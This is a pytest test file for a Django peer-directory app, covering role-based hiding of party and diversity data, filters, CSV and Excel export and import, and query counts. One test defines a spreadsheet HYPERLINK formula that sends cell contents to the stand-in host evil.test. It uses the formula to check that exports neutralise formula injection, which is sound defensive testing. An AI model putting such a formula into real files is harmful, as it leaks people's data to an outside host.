import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from peerwork.accounts.models import Role
from peerwork.councils.models import Party
from peerwork.peers.models import Peer, Skill
from tests.accounts.factories import UserFactory
from tests.councils.factories import CouncilFactory
from tests.peers.factories import MemberPeerFactory, PeerFactory, PeerSkillFactory

pytestmark = pytest.mark.django_db

SPECIAL = [Role.ADMINISTRATOR, Role.PROGRAMME_STAFF]
NOT_SPECIAL = [Role.PRINCIPAL_ADVISER]


@pytest.fixture
def labour_member():
    return MemberPeerFactory(full_name="Lena Lewis", party=Party.objects.get(short_name="Lab"))


@pytest.mark.parametrize("role", SPECIAL)
def test_staff_and_administrators_see_party_everywhere(client, labour_member, role):
    client.force_login(UserFactory(role=role))

    listing = client.get(reverse("peers:list"))
    page = client.get(reverse("peers:detail", args=[labour_member.pk]))
    exported = client.get(reverse("peers:export-csv")).getvalue().decode()

    assert "Political party" in page.content.decode()
    assert "Labour" in page.content.decode()
    assert ">Party<" in listing.content.decode()
    assert "party" in exported.splitlines()[0].split(",")
    assert ",Lab," in exported


@pytest.mark.parametrize("role", NOT_SPECIAL)
def test_principal_advisers_never_see_party_or_diversity(client, labour_member, role):
    client.force_login(UserFactory(role=role))

    listing = client.get(reverse("peers:list"), {"party": "Lab"})
    page = client.get(reverse("peers:detail", args=[labour_member.pk]))
    exported = client.get(reverse("peers:export-csv")).getvalue().decode()
    workbook = load_workbook(io.BytesIO(client.get(reverse("peers:export-xlsx")).getvalue()))

    for text in (listing.content.decode(), page.content.decode(), exported):
        assert "Labour" not in text
        assert "Political party" not in text
        assert "gender" not in text
    header = [c.value for c in next(workbook.active.iter_rows())]
    assert "party" not in header and "gender" not in header


def test_filter_by_skill_and_level(client):
    client.force_login(UserFactory(role=Role.PROGRAMME_STAFF))
    expert = PeerSkillFactory(level=3, peer=PeerFactory(full_name="Frances Expert")).peer
    PeerSkillFactory(level=1, peer=PeerFactory(full_name="Wendy Working"))
    PeerSkillFactory(
        level=3, skill=Skill.objects.get(slug="housing"), peer=PeerFactory(full_name="Harry House")
    )

    response = client.get(reverse("peers:list"), {"skill": "finance", "min_level": "3"})

    names = [p.full_name for p in response.context["page"]]
    assert names == [expert.full_name]


def test_filters_by_kind_and_status_and_sorting(client):
    client.force_login(UserFactory(role=Role.PROGRAMME_STAFF))
    PeerFactory(full_name="Adam Officer")
    MemberPeerFactory(full_name="Zoe Member")
    MemberPeerFactory(full_name="Bob Retired", status="retired")

    members = client.get(reverse("peers:list"), {"kind": "member", "sort": "-name"})
    assert [p.full_name for p in members.context["page"]] == ["Zoe Member", "Bob Retired"]
    active = client.get(reverse("peers:list"), {"status": "active"})
    assert "Bob Retired" not in [p.full_name for p in active.context["page"]]


def test_export_holds_what_the_filter_shows(client):
    client.force_login(UserFactory(role=Role.PROGRAMME_STAFF))
    PeerFactory(full_name="Adam Officer")
    MemberPeerFactory(full_name="Zoe Member")

    exported = client.get(reverse("peers:export-csv"), {"kind": "member"}).getvalue().decode()

    rows = list(csv.DictReader(io.StringIO(exported)))
    assert [r["full_name"] for r in rows] == ["Zoe Member"]


def test_exported_file_imports_back_unchanged(client):
    client.force_login(UserFactory(role=Role.PROGRAMME_STAFF))
    PeerSkillFactory(level=2, peer=MemberPeerFactory(full_name="Zoe Member"))
    exported = client.get(reverse("peers:export-csv")).getvalue()

    upload = io.BytesIO(exported)
    upload.name = "peers.csv"
    response = client.post(reverse("peers:import"), {"file": upload})

    assert response.status_code == 302
    peer = Peer.objects.get(full_name="Zoe Member")
    assert peer.version == 2
    assert [(s.skill.slug, s.level) for s in peer.skills.all()] == [("finance", 2)]


HEADER = "email,full_name,kind,home_council_code,home_role,party,skills\n"


def _upload(text):
    upload = io.BytesIO(text.encode())
    upload.name = "peers.csv"
    return upload


def test_import_with_one_bad_row_imports_nothing_and_names_the_row(client):
    client.force_login(UserFactory(role=Role.PROGRAMME_STAFF))
    council = CouncilFactory(code="ZZA")
    text = HEADER + (
        f"ann@example.org,Ann,officer,{council.code},chief_executive,,finance:3\n"
        f"bob@example.org,Bob,member,NOPE,leader,Lab,finance:2\n"
        f"cat@example.org,Cat,officer,{council.code},s151_officer,Lab,finance:9\n"
        f"ann@example.org,Ann again,officer,{council.code},chief_executive,,\n"
    )

    response = client.post(reverse("peers:import"), {"file": _upload(text)})

    content = response.content.decode()
    assert "There is a problem" in content
    assert (
        "Line 3: home_council_code &#x27;NOPE&#x27;" in content
        or "Line 3: home_council_code" in content
    )
    assert "Line 4: party is given but officer peers have no party" in content
    assert (
        "Line 4: skill &#x27;finance&#x27; needs a level" in content or "needs a level" in content
    )
    assert "Line 5: email ann@example.org is also on line 2" in content
    assert not Peer.objects.exists()


def test_import_refuses_a_file_that_is_not_csv(client):
    client.force_login(UserFactory(role=Role.PROGRAMME_STAFF))
    upload = io.BytesIO(b"x")
    upload.name = "peers.pdf"

    response = client.post(reverse("peers:import"), {"file": upload})

    assert "The file must be a CSV file" in response.content.decode()


def test_two_staff_editing_a_peer_the_second_is_told(client):
    client.force_login(UserFactory(role=Role.PROGRAMME_STAFF))
    peer = PeerFactory(full_name="Original")
    url = reverse("peers:edit", args=[peer.pk])
    form = {
        "kind": "officer",
        "full_name": "First",
        "email": peer.email,
        "home_council": peer.home_council.pk,
        "home_role": "chief_executive",
        "status": "active",
        "capacity_engagements": "4",
        "capacity_days": "12",
        "version": peer.version,
    }

    assert client.post(url, form).status_code == 302
    second = client.post(url, {**form, "full_name": "Second"})

    assert "Someone else changed this peer" in second.content.decode()
    peer.refresh_from_db()
    assert peer.full_name == "First"


def test_officer_peer_cannot_be_given_a_party(client):
    client.force_login(UserFactory(role=Role.PROGRAMME_STAFF))
    peer = PeerFactory()

    response = client.post(
        reverse("peers:edit", args=[peer.pk]),
        {
            "kind": "officer",
            "full_name": peer.full_name,
            "email": peer.email,
            "home_council": peer.home_council.pk,
            "home_role": "chief_executive",
            "party": Party.objects.get(short_name="Con").pk,
            "status": "active",
            "capacity_engagements": "4",
            "capacity_days": "12",
            "version": peer.version,
        },
    )

    assert "Officer peers have no party" in response.content.decode()


def test_recording_a_former_role_creates_a_conflict(client):
    client.force_login(UserFactory(role=Role.PROGRAMME_STAFF))
    peer = PeerFactory()
    former = CouncilFactory(short_name="Oldtown")

    client.post(
        reverse("peers:history", args=[peer.pk]),
        {
            "record": "former",
            "f-council": former.pk,
            "f-role": "director",
            "f-ended_on-day": "31",
            "f-ended_on-month": "3",
            "f-ended_on-year": "2024",
        },
    )

    page = client.get(reverse("peers:detail", args=[peer.pk])).content.decode()
    assert "Oldtown: worked there until 31 March 2024" in page


def test_bad_training_dates_are_explained(client):
    client.force_login(UserFactory(role=Role.PROGRAMME_STAFF))
    peer = PeerFactory()

    response = client.post(
        reverse("peers:history", args=[peer.pk]),
        {
            "record": "accreditation",
            "a-name": "CPC training",
            "a-completed_on-day": "30",
            "a-completed_on-month": "2",
            "a-completed_on-year": "2026",
        },
    )

    assert "Completed on must be a real date" in response.content.decode()
    assert not peer.accreditations.exists()


def test_the_directory_states_the_share_of_the_pool_that_is_active(client):
    client.force_login(UserFactory(role=Role.PROGRAMME_STAFF))
    PeerFactory.create_batch(3)
    PeerFactory(status="paused")

    response = client.get(reverse("peers:list"))

    assert "3 of 4 peers in the pool are active (75%)." in response.content.decode()


def test_filter_by_load_this_year(client):
    import datetime

    from django.utils import timezone

    from tests.engagements.factories import EngagementFactory, TeamMemberFactory

    client.force_login(UserFactory(role=Role.PROGRAMME_STAFF))
    today = timezone.localdate()
    busy = PeerFactory(full_name="Busy Bee", capacity_engagements=1)
    TeamMemberFactory(
        peer=busy, status="accepted", engagement=EngagementFactory(preferred_from=today)
    )
    idle = PeerFactory(full_name="Idle Ivy")
    TeamMemberFactory(
        peer=idle,
        status="accepted",
        engagement=EngagementFactory(preferred_from=today - datetime.timedelta(days=800)),
    )

    full = client.get(reverse("peers:list"), {"load": "full"})
    unused = client.get(reverse("peers:list"), {"load": "unused"})

    assert [p.full_name for p in full.context["page"]] == ["Busy Bee"]
    assert [p.full_name for p in unused.context["page"]] == ["Idle Ivy"]
    assert "1 engagements, 4 days" in full.content.decode()


# Cost follows the page, not the pool ---------------------------------------------------


def _grow_pool(n):
    """n peers, each with two skills, a council type and a place on a team."""
    from tests.engagements.factories import EngagementFactory, TeamMemberFactory

    engagement = EngagementFactory(preferred_from=timezone.localdate())
    for place in range(1, n + 1):
        peer = MemberPeerFactory()
        PeerSkillFactory(peer=peer)
        PeerSkillFactory(peer=peer, skill=Skill.objects.get(slug="housing"))
        peer.council_types.create(council_type="MD")
        TeamMemberFactory(peer=peer, engagement=engagement, place=place, status="accepted")


def _queries(client, url, query) -> list[str]:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, query)
        if response.streaming:
            b"".join(response.streaming_content)
    assert response.status_code == 200
    return [q["sql"] for q in queries]


QUERIES = [
    {},
    {"page": "2"},
    {"sort": "load"},
    {"sort": "skills", "council_type": "MD"},
    {"load": "unused", "skill": "housing"},
]


@pytest.mark.parametrize("query", QUERIES)
def test_the_directory_runs_as_many_queries_for_a_large_pool_as_for_a_small_one(client, query):
    client.force_login(UserFactory(role=Role.ADMINISTRATOR))
    _grow_pool(3)
    small = _queries(client, reverse("peers:list"), query)

    _grow_pool(60)  # more than a page
    large = _queries(client, reverse("peers:list"), query)

    assert len(large) == len(small)
    # No query joins both the skills and the team places to the peers, which multiplies
    # one by the other over the whole pool.
    joined = ('JOIN "peers_peerskill" ON', 'JOIN "engagements_teammember" ON')
    assert not [sql for sql in large if all(join in sql for join in joined)]


def test_the_directory_counts_the_filtered_pool_without_joins_and_reads_one_page(client):
    client.force_login(UserFactory(role=Role.PROGRAMME_STAFF))
    _grow_pool(55)
    PeerFactory(kind="officer")

    queries = _queries(client, reverse("peers:list"), {"kind": "member"})
    first = client.get(reverse("peers:list"), {"kind": "member"}).context["page"]
    second = client.get(reverse("peers:list"), {"kind": "member", "page": 2}).context["page"]

    [count] = [sql for sql in queries if "COUNT(*)" in sql and '"kind"' in sql]
    assert " JOIN " not in count
    assert first.paginator.count == 55
    assert (len(first), len(second)) == (50, 5)
    names = [p.full_name for p in first] + [p.full_name for p in second]
    assert names == sorted(names)
    assert not {p.pk for p in first} & {p.pk for p in second}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_runs_as_many_queries_for_many_peers_as_for_a_few(client, fmt):
    client.force_login(UserFactory(role=Role.ADMINISTRATOR))
    _grow_pool(3)
    few = _queries(client, reverse(f"peers:export-{fmt}"), {})

    _grow_pool(40)
    many = _queries(client, reverse(f"peers:export-{fmt}"), {})

    assert len(many) == len(few)


# The CSV export as it has always been written, after a byte-order mark: an
# administrator's (with party and diversity), and a principal adviser's (without them).
EXPORTED_FOR_ADMINISTRATORS = (
    "\ufeffemail,full_name,kind,phone,home_council_code,home_role,party,status,"
    "capacity_engagements,capacity_days,skills,council_types,accreditation,accredited_on,"
    "accreditation_expires_on,experience,gender,disability,ethnicity\r\n"
    "ann@example.org,Ann Able,officer,01234 567890,XAA,chief_executive,,active,4,12,"
    "finance:3;housing:1,MD;UA,Peer challenge training,2024-05-01,2027-05-01,"
    '"Led a council, then two.",,,\r\n'
    "bob@example.org,Bob Baker,member,,XAB,leader,Lab,paused,2,6,,,,,,,woman,no,white_british\r\n"
)
EXPORTED_FOR_ADVISERS = (
    "\ufeffemail,full_name,kind,phone,home_council_code,home_role,status,"
    "capacity_engagements,capacity_days,skills,council_types,accreditation,accredited_on,"
    "accreditation_expires_on,experience\r\n"
    "ann@example.org,Ann Able,officer,01234 567890,XAA,chief_executive,active,4,12,"
    "finance:3;housing:1,MD;UA,Peer challenge training,2024-05-01,2027-05-01,"
    '"Led a council, then two."\r\n'
    "bob@example.org,Bob Baker,member,,XAB,leader,paused,2,6,,,,,,\r\n"
)


@pytest.mark.parametrize(
    "role, expected",
    [
        (Role.ADMINISTRATOR, EXPORTED_FOR_ADMINISTRATORS),
        (Role.PRINCIPAL_ADVISER, EXPORTED_FOR_ADVISERS),
    ],
)
def test_the_csv_export_writes_the_same_file_as_before(client, role, expected):
    import datetime

    from peerwork.peers.models import DiversityRecord

    ann = PeerFactory(
        email="ann@example.org",
        full_name="Ann Able",
        phone="01234 567890",
        home_council=CouncilFactory(code="XAA"),
        experience="Led a council, then two.",
    )
    PeerSkillFactory(peer=ann, level=3)
    PeerSkillFactory(peer=ann, skill=Skill.objects.get(slug="housing"), level=1)
    ann.council_types.create(council_type="UA")
    ann.council_types.create(council_type="MD")
    ann.accreditations.create(name="Earlier training", completed_on=datetime.date(2021, 5, 1))
    ann.accreditations.create(
        name="Peer challenge training",
        completed_on=datetime.date(2024, 5, 1),
        expires_on=datetime.date(2027, 5, 1),
    )
    bob = MemberPeerFactory(
        email="bob@example.org",
        full_name="Bob Baker",
        home_council=CouncilFactory(code="XAB"),
        status="paused",
        capacity_engagements=2,
        capacity_days=6,
    )
    DiversityRecord.objects.create(
        peer=bob,
        consent_given_at=timezone.now(),
        gender="woman",
        disability="no",
        ethnicity="white_british",
    )
    client.force_login(UserFactory(role=role))

    response = client.get(reverse("peers:export-csv"))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="peers-')
    assert response.getvalue().decode() == expected


HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A2,"Click for CV")'


@pytest.mark.parametrize("role", [Role.ADMINISTRATOR, Role.PRINCIPAL_ADVISER])
def test_formulas_a_peer_types_into_their_profile_are_inert_in_both_exports(client, role):
    import datetime

    user = UserFactory(role=Role.PEER)
    peer = PeerFactory(user=user, email=user.email, full_name="Siân Jones")
    peer.accreditations.create(name="Training", completed_on=datetime.date(2024, 5, 1))
    client.force_login(user)
    edit = {
        "phone": "=1+2",
        "capacity_engagements": "3",
        "capacity_days": "9",
        "experience": HYPERLINK,
        "version": peer.version,
    }
    assert client.post(reverse("peers:my-profile-edit"), edit).status_code == 302
    client.force_login(UserFactory(role=role))

    content = client.get(reverse("peers:export-csv")).getvalue()
    workbook = load_workbook(io.BytesIO(client.get(reverse("peers:export-xlsx")).getvalue()))

    assert content.startswith(b"\xef\xbb\xbf")
    [row] = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    assert (row["full_name"], row["phone"], row["experience"]) == (
        "Siân Jones",
        "'=1+2",
        "'" + HYPERLINK,
    )
    assert row["accredited_on"] == "2024-05-01"
    sheet = workbook["Peers"]
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    for column, typed in (("phone", "=1+2"), ("experience", HYPERLINK)):
        assert cells[column].data_type == "s"
        assert cells[column].value == "'" + typed
    assert cells["full_name"].value == "Siân Jones"
    assert cells["accredited_on"].is_date
    assert cells["accredited_on"].value == datetime.datetime(2024, 5, 1)
    assert cells["capacity_days"].value == 9
